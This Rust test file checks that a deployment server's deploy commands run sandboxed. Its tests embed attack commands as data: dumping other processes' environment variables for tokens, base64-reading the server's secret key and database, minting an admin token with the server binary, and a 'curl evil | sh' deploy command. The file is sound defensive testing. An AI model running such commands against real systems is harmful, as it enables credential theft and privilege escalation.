//! A deploy reaches only what it is given: the attacks a black-box probe made with a deploy
//! command (issue 16), each of which worked before deploys ran in their sandbox.

use crate::{environment, project, seeded, status_of, variable};
use jeny_deploys::{DeployRequest, DeployStatus};
use jeny_testkit::{Backend, Client, TestApp, VariableScope, both_backends};
use serde_json::json;

both_backends!(
    a_deploy_cannot_mint_a_token_with_the_servers_own_binary,
    a_deploy_cannot_read_another_running_deploys_secrets,
    a_deploy_cannot_read_the_servers_key_or_database,
    only_a_deployer_of_every_environment_changes_what_they_all_run,
    a_root_server_without_a_deploy_user_refuses_deploys_and_says_why,
);

/// Creates project `name` with `command` and its environment `production` (no hosts needed).
async fn project_with(admin: &Client, name: &str, command: &str) {
    let mut input = project(name);
    input.deploy_command = command.to_owned();
    admin.create_project(&input).await.unwrap();
    admin
        .create_environment(name, &environment("production", &[]))
        .await
        .unwrap();
}

/// Deploys `name` to production and waits for it to end; answers its output.
async fn deploy_to_the_end(admin: &Client, name: &str) -> String {
    let deploy = admin
        .create_deploy(name, "production", &DeployRequest::default())
        .await
        .unwrap();
    let ended = admin.wait_for_deploy(&deploy.id).await.unwrap();
    let output = admin.deploy_output(&deploy.id, false).await.unwrap();
    assert_eq!(ended.status, DeployStatus::Succeeded, "{output}");
    output
}

async fn a_deploy_cannot_mint_a_token_with_the_servers_own_binary(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.with_admin().await;
    let data_dir = std::path::absolute(&app.config.data_dir).unwrap();
    // The probe's command, and the same with the binary's path, which the sandbox still shows.
    let mint = |program: &str| {
        format!(
            "{program} admin token --data-dir {data} --email mallory@example.com --role admin 2>&1 \
             | sed 's/^/minted: /'",
            data = data_dir.display()
        )
    };
    let command = format!(
        "{}; {}; true",
        mint("/proc/$PPID/exe"),
        mint(&jeny_testkit::jeny_program().display().to_string())
    );
    project_with(&admin, "app", &command).await;
    let output = deploy_to_the_end(&admin, "app").await;
    let minted: Vec<&str> = output
        .lines()
        .filter_map(|line| line.strip_prefix("minted: "))
        .filter(|line| line.starts_with("jeny"))
        .collect();
    for token in &minted {
        let status = reqwest::Client::new()
            .get(format!("{}/api/v1/me", app.url))
            .bearer_auth(token.trim())
            .send()
            .await
            .unwrap()
            .status();
        assert_eq!(status, 401, "a deploy minted a working token: {output}");
    }
    let people = admin
        .request(reqwest::Method::GET, "/api/v1/people")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!people.contains("mallory"), "{people}");
}

async fn a_deploy_cannot_read_another_running_deploys_secrets(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.with_admin().await;
    let secret = "b-secret-7f3a9c2e1d";
    project_with(&admin, "bravo", "echo started; sleep 120").await;
    admin
        .put_variable(
            VariableScope::Project("bravo"),
            "B_TOKEN",
            &variable("B_TOKEN", Some(secret), true),
            None,
        )
        .await
        .unwrap();
    let bravo = admin
        .create_deploy("bravo", "production", &DeployRequest::default())
        .await
        .unwrap();
    crate::deploys::wait_for_output(&admin, &bravo.id, "started").await;
    // Base64 of what it finds, so that bravo's secret, unknown to alpha's masking, would show.
    project_with(
        &admin,
        "alpha",
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep B_TOKEN | base64 -w0; \
         echo; echo searched",
    )
    .await;
    let output = deploy_to_the_end(&admin, "alpha").await;
    admin.cancel_deploy(&bravo.id).await.unwrap();
    assert!(output.contains("searched"), "{output}");
    let found: String = output
        .lines()
        .filter(|line| !line.starts_with("[jeny]") && *line != "searched")
        .collect();
    let decoded = base64_decode(found.trim());
    assert!(
        !decoded.contains(secret),
        "alpha read bravo's secret: {decoded}"
    );
    assert!(decoded.is_empty(), "alpha saw bravo's variables: {decoded}");
}

async fn a_deploy_cannot_read_the_servers_key_or_database(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.with_admin().await;
    let data_dir = std::path::absolute(&app.config.data_dir).unwrap();
    let key = std::fs::read(app.config.secret_key_file()).unwrap();
    assert!(!key.is_empty());
    // From its folder (`<data>/deploys/<id>/src`) by a relative path, then by the absolute one.
    project_with(
        &admin,
        "app",
        &format!(
            "for f in ../../../secret.key {data}/secret.key {data}/jeny.db; do \
             echo \"$f: $(base64 -w0 \"$f\" 2>/dev/null)\"; done; ls -a ../../.. {data}",
            data = data_dir.display()
        ),
    )
    .await;
    let output = deploy_to_the_end(&admin, "app").await;
    let encoded = base64_encode(&key);
    assert!(
        !output.contains(&encoded),
        "a deploy read the key: {output}"
    );
    // The command's own lines (`<path>: <base64>`); the shell's errors on stderr may come in
    // pieces between them.
    let read: Vec<(&str, &str)> = output
        .lines()
        .filter_map(|line| line.split_once(": "))
        .filter(|(file, _)| file.starts_with('/') || file.starts_with("../"))
        .filter(|(file, _)| file.ends_with("secret.key") || file.ends_with("jeny.db"))
        .collect();
    assert_eq!(read.len(), 3, "{output}");
    for (file, content) in read {
        assert_eq!(content.trim(), "", "a deploy read {file}: {output}");
    }
    assert!(!output.contains("supervisors.log"), "{output}");
}

fn base64_encode(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn base64_decode(text: &str) -> String {
    use base64::Engine;
    String::from_utf8_lossy(
        &base64::engine::general_purpose::STANDARD
            .decode(text)
            .unwrap_or_default(),
    )
    .into_owned()
}

async fn only_a_deployer_of_every_environment_changes_what_they_all_run(backend: Backend) {
    let (app, admin) = seeded(backend).await;
    admin
        .create_environment("web", &environment("staging", &[("role", "web")]))
        .await
        .unwrap();
    let person = app.with_viewer().await;
    // Deployer of the project, but only a viewer on production.
    let granted = admin
        .request(
            reqwest::Method::PUT,
            "/api/v1/people/viewer@example.com/grants",
        )
        .json(&json!({"grants": [
            {"project": "web", "role": "deployer"},
            {"project": "web", "environment": "production", "role": "viewer"},
        ]}))
        .send()
        .await
        .unwrap();
    assert_eq!(granted.status(), 200);
    let before = admin.get_project("web").await.unwrap().value;

    let refusals = [
        status_of(
            person
                .patch_project("web", &json!({"deploy_command": "curl evil | sh"}), None)
                .await,
        ),
        status_of(
            person
                .patch_project(
                    "web",
                    &json!({"repository": "https://evil.example/x.git"}),
                    None,
                )
                .await,
        ),
        status_of(
            person
                .put_variable(
                    VariableScope::Project("web"),
                    "A",
                    &variable("A", Some("changed"), false),
                    None,
                )
                .await,
        ),
        status_of(
            person
                .put_variable(
                    VariableScope::Project("web"),
                    "NEW",
                    &variable("NEW", Some("x"), false),
                    None,
                )
                .await,
        ),
        status_of(
            person
                .delete_variable(VariableScope::Project("web"), "A", None)
                .await,
        ),
        status_of(
            person
                .put_variable(
                    VariableScope::Environment("web", "production"),
                    "B",
                    &variable("B", Some("x"), false),
                    None,
                )
                .await,
        ),
    ];
    assert_eq!(refusals, [403; 6]);
    let after = admin.get_project("web").await.unwrap().value;
    assert_eq!(after, before, "a refused change changed the project");
    let variables = admin
        .request(reqwest::Method::GET, "/api/v1/projects/web/variables")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        !variables.contains("NEW") && variables.contains("\"A\""),
        "{variables}"
    );

    // What reaches only staging, and the project's title, remain theirs to change.
    person
        .patch_project("web", &json!({"title": "Web shop"}), None)
        .await
        .unwrap();
    person
        .put_variable(
            VariableScope::Environment("web", "staging"),
            "B",
            &variable("B", Some("x"), false),
            None,
        )
        .await
        .unwrap();
    // A deployer everywhere may change the command.
    let granted = admin
        .request(
            reqwest::Method::PUT,
            "/api/v1/people/viewer@example.com/grants",
        )
        .json(&json!({"grants": [{"project": "web", "role": "deployer"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(granted.status(), 200);
    person
        .patch_project("web", &json!({"deploy_command": "echo fine"}), None)
        .await
        .unwrap();
}

async fn a_root_server_without_a_deploy_user_refuses_deploys_and_says_why(backend: Backend) {
    if !nix_is_root() {
        eprintln!("not root: a server that is not root runs deploys as itself");
        return;
    }
    let database = jeny_testkit::TestDatabase::create(backend).await;
    let app = TestApp::spawn_on(database, |config| config.deploy_user = None).await;
    let admin = app.with_admin().await;
    let outside = tempfile::tempdir().unwrap();
    let ran = outside.path().join("ran");
    project_with(&admin, "app", &format!("touch {}", ran.display())).await;
    let deploy = admin
        .create_deploy("app", "production", &DeployRequest::default())
        .await
        .unwrap();
    let ended = admin.wait_for_deploy(&deploy.id).await.unwrap();
    let output = admin.deploy_output(&deploy.id, false).await.unwrap();
    assert_eq!(ended.status, DeployStatus::Errored, "{output}");
    assert!(
        output.contains("--deploy-user USER") && output.contains("--deploy-user root"),
        "{output}"
    );
    assert!(!ran.exists(), "the command ran as root");
    // The rest of jeny works: the API answered all along.
    admin.get_project("app").await.unwrap();
}

fn nix_is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .find_map(|line| line.strip_prefix("Uid:"))
        .and_then(|ids| ids.split_whitespace().nth(1).map(|id| id == "0"))
        .unwrap_or(false)
}
